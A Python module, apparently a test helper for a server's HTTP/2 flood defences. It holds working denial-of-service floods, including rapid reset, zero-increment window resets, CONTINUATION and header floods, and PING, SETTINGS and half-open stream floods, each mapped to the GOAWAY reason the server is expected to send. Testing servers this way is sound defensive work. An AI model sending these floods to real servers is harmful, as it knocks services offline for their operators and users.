"""What a hostile network sends, one function each: (name, bytes to send in turns, how often).

FLOODS[name](peer) sends until it is cut or done, and answers how many frames it got out."""
from frames import (ACK, CHECK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY,
                    RST_STREAM, SETTINGS, WINDOW_UPDATE, call, field, frame, headers_of)

CANCEL = (8).to_bytes(4, "big")
ZERO_WINDOW = b"\0\x04\0\0\0\0"  # SETTINGS_INITIAL_WINDOW_SIZE = 0


def _repeat(peer, piece, count, at_once=100):
    sent = 0
    while sent < count and peer.send(piece * at_once):
        sent += at_once
    return sent


def headers(peer, count=2000):
    """A header block of `count` x 16 KiB."""
    filler = b"".join(field(b"x-%d" % i, b"y" * 100) for i in range(140))[:16000]
    peer.send(frame(HEADERS, END_STREAM, 1, headers_of()))
    return _repeat(peer, frame(CONTINUATION, 0, 1, filler), count, 1)


def continuations(peer, count=200000):
    peer.send(frame(HEADERS, END_STREAM, 1, headers_of()))
    return _repeat(peer, frame(CONTINUATION, 0, 1), count)


def rapid_reset(peer, count=100000):
    sent = 0
    for stream in range(1, 2 * count, 200):
        data = b"".join(call(number) + frame(RST_STREAM, 0, number, CANCEL)
                        for number in range(stream, min(stream + 200, 2 * count), 2))
        if not peer.send(data):
            break
        sent += 100
    return sent


def made_you_reset(peer, count=20000):
    """The server is made to reset: a window of a stream grows by nothing (RFC 9113, 6.9)."""
    sent = 0
    for stream in range(1, 2 * count, 200):
        data = b"".join(call(number) + frame(WINDOW_UPDATE, 0, number, bytes(4))
                        for number in range(stream, stream + 200, 2))
        if not peer.send(data):
            break
        sent += 100
    return sent


def pings(peer, count=200000):
    return _repeat(peer, frame(PING, 0, 0, bytes(8)), count)


def ping_answers(peer, count=200000):
    return _repeat(peer, frame(PING, ACK, 0, bytes(8)), count)


def settings(peer, count=200000):
    return _repeat(peer, frame(SETTINGS), count)


def priorities(peer, count=200000):
    return _repeat(peer, frame(PRIORITY, 0, 1, bytes(4) + b"\1"), count)


def empty_data(peer, count=200000):
    peer.send(frame(HEADERS, END_HEADERS, 1, headers_of()))
    return _repeat(peer, frame(DATA, 0, 1), count)


def windows(peer, count=200000):
    return _repeat(peer, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), count)


def half_requests(peer, count=2000):
    """Requests that begin and never end."""
    data = b"".join(frame(HEADERS, END_HEADERS, stream, headers_of())
                    for stream in range(1, 2 * count, 2))
    peer.send(data)
    return count


FLOODS = {flood.__name__: flood for flood in (
    headers, continuations, rapid_reset, made_you_reset, pings, ping_answers, settings, priorities,
    empty_data, windows, half_requests)}
# What GOAWAY says, where the door cuts; gRPC itself cuts some before it.
SAID = {"headers": "headers", "continuations": "headers", "rapid_reset": "resets",
        "made_you_reset": "resets", "pings": "pings", "ping_answers": "pings",
        "settings": "settings", "priorities": "empty_frames", "empty_data": "empty_frames",
        "windows": "windows", "half_requests": "streams"}
